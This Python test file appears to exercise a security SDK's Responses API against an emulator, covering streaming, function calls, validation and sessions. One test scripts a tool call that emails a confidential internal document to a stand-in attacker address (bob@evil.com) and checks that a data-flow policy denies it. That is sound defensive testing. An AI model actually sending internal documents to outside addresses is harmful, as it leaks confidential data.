"""The Responses API against the emulator, through both clients."""

from __future__ import annotations

import json

import pytest

from sequrity import SequrityStreamError, SequrityValidationError
from sequrity.control import FeaturesHeader, FineGrainedConfigHeader, SecurityPolicyHeader
from sequrity.types.responses import (
    FunctionToolCall,
    ResponseCompletedEvent,
    ResponseCreatedEvent,
    ResponsesResponse,
    ResponseTextDeltaEvent,
    accumulate_response,
)
from sequrity.types.responses.request import ResponseFormatJSONSchemaParam

pytestmark = pytest.mark.anyio

CREATE = "control.responses.create"
MODEL = "gpt-5-mini"
PRIME = "What is the largest prime number below 100?"
POLICY = (
    'let sensitive_docs = {"internal_use", "confidential"};\n'
    'tool "get_internal_document" -> @tags |= sensitive_docs;\n'
    'tool "send_email" {\n'
    "    hard deny when (body.tags overlaps sensitive_docs) and "
    '(not to.value in {str matching r".*@trustedcorp\\.com"});\n'
    "}\n"
)
TOOLS = [
    {"type": "function", "name": "book_flight", "parameters": {"type": "object"}},
    {"type": "function", "name": "get_internal_document", "parameters": {"type": "object"}},
    {"type": "function", "name": "send_email", "parameters": {"type": "object"}},
]
DUAL = {
    "features": FeaturesHeader.dual_llm(),
    "security_policy": SecurityPolicyHeader.dual_llm(codes=POLICY),
    "fine_grained_config": FineGrainedConfigHeader.dual_llm(max_n_turns=5),
}


async def test_plain_call_returns_completed_response_with_text(api, emulator):
    """A plain call returns a completed typed response whose output text holds the answer."""
    response = await api.call(CREATE, MODEL, input=PRIME)

    assert isinstance(response, ResponsesResponse)
    assert response.object == "response"
    assert response.status == "completed"
    assert response.output
    assert "97" in response.output_text
    assert response.session_id
    assert emulator.requests[-1].path == "/control/chat/v1/responses"


async def test_stream_yields_events_ending_with_completed(api):
    """A stream starts with response.created, has text deltas and ends with response.completed."""
    events, stream = await api.stream(CREATE, MODEL, input=PRIME)

    assert isinstance(events[0], ResponseCreatedEvent)
    assert any(isinstance(e, ResponseTextDeltaEvent) for e in events)
    assert isinstance(events[-1], ResponseCompletedEvent)
    assert [e.sequence_number for e in events] == list(range(len(events)))
    assert stream.session_id


async def test_accumulated_stream_equals_plain_answer(api):
    """Accumulating the stream gives the same output text as the plain call."""
    plain = await api.call(CREATE, MODEL, input=PRIME)
    events, _ = await api.stream(CREATE, MODEL, input=PRIME)

    final = accumulate_response(events)

    assert final.output_text == plain.output_text
    assert final.status == "completed"


async def test_multi_turn_function_calls_with_previous_response_id(api, emulator):
    """function_call items are answered with function_call_output items and previous_response_id."""
    emulator.script.tool_calls([{"name": "book_flight", "arguments": {"flight": "BA263"}}])
    emulator.script.tool_calls([{"name": "book_flight", "arguments": {"flight": "BA289"}}])
    emulator.script.reply("Both flights are booked.")
    first = await api.call(CREATE, MODEL, input="Book BA263", tools=TOOLS, **DUAL)
    [call1] = first.function_calls
    second = await api.call(
        CREATE,
        MODEL,
        input=[
            {"type": "function_call_output", "call_id": call1.call_id, "output": "booked"},
            {"role": "user", "content": "Now book BA289"},
        ],
        previous_response_id=first.id,
        tools=TOOLS,
    )
    [call2] = second.function_calls
    third = await api.call(
        CREATE,
        MODEL,
        input=[{"type": "function_call_output", "call_id": call2.call_id, "output": "booked"}],
        previous_response_id=second.id,
        tools=TOOLS,
    )

    assert isinstance(call1, FunctionToolCall)
    assert json.loads(call1.arguments) == {"flight": "BA263"}
    assert json.loads(call2.arguments) == {"flight": "BA289"}
    assert third.status == "completed"
    assert "Both flights are booked." in third.output_text
    assert emulator.requests[-1].json["previous_response_id"] == second.id


async def test_policy_denial_gives_failed_status_with_reason(api, emulator):
    """A Dual-LLM policy denial answers status failed with the denial in the output text."""
    emulator.script.tool_calls([{"name": "get_internal_document", "arguments": {"id": "q3"}}])
    emulator.script.tool_calls(
        [{"name": "send_email", "arguments": {"to": "bob@evil.com", "body": "Q3 confidential"}}]
    )
    first = await api.call(CREATE, MODEL, input="Mail Q3 to bob", tools=TOOLS, **DUAL)
    call_id = first.function_calls[0].call_id

    second = await api.call(
        CREATE,
        MODEL,
        input=[{"type": "function_call_output", "call_id": call_id, "output": "Q3 confidential"}],
        previous_response_id=first.id,
        tools=TOOLS,
    )

    assert second.status == "failed"
    assert "'send_email' is denied" in second.output_text


async def test_neither_input_nor_previous_id_is_refused_before_sending(api, emulator):
    """A call without input and without previous_response_id is refused locally."""
    with pytest.raises(SequrityValidationError, match="input"):
        await api.call(CREATE, MODEL)

    assert not emulator.requests


async def test_provider_that_does_not_serve_responses_is_refused(api, emulator):
    """Anthropic and OpenRouter do not serve /responses; the error names those that do."""
    for provider in ("anthropic", "openrouter"):
        with pytest.raises(SequrityValidationError, match="sequrity_azure"):
            await api.call(CREATE, MODEL, input="hi", provider=provider)

    assert not emulator.requests


async def test_timeout_limits_the_request_and_stays_out_of_the_body(api, emulator):
    """timeout is a request deadline, never a body key."""
    await api.call(CREATE, MODEL, input="hi", timeout=30.0)

    assert "timeout" not in emulator.requests[-1].json


async def test_body_carries_schema_and_hidden_official_fields(api, emulator):
    """text.format.schema goes out as schema; prompt_cache_key and user are sent."""
    typed = ResponseFormatJSONSchemaParam(name="n", schema_={"type": "object"})
    await api.call(
        CREATE, MODEL, input="hi", text={"format": typed}, prompt_cache_key="k", user="u"
    )

    sent = emulator.requests[-1].json
    schema = {"type": "json_schema", "name": "n", "schema": {"type": "object"}}
    assert sent["text"] == {"format": schema}
    assert sent["prompt_cache_key"] == "k"
    assert sent["user"] == "u"


async def test_in_band_error_event_raises_stream_error(api, emulator):
    """An error event inside the stream raises SequrityStreamError with its message."""
    emulator.faults.next_n(1).stream_error("upstream exploded", after_events=3)

    with pytest.raises(SequrityStreamError, match="upstream exploded"):
        await api.stream(CREATE, MODEL, input=PRIME)


async def test_session_handle_sends_its_session_id(client, emulator):
    """A session handle's responses resource continues its session."""
    async with client.control.session() as conversation:
        first = await conversation.responses.create(MODEL, input="hi")
        await conversation.responses.create(MODEL, input="again")

    assert emulator.requests[-1].headers["X-Session-ID"] == first.session_id
